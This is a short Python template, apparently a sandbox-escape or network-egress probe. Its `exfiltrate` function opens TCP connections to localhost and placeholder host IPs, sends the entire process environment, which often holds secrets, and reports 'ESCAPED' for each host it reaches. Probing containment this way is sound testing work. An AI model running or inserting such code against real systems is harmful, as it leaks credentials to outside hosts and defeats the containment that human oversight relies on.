import os
import socket

_TARGETS = ["127.0.0.1"] + {HOST_IPS}


def exfiltrate() -> str:
    """Phone home over TCP."""
    found = []
    for host in _TARGETS:
        try:
            with socket.create_connection((host, {PORT}), timeout=1) as conn:
                conn.sendall(repr(dict(os.environ)).encode())
            found.append("ESCAPED: sent to " + host)
        except OSError as exc:
            found.append(host + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
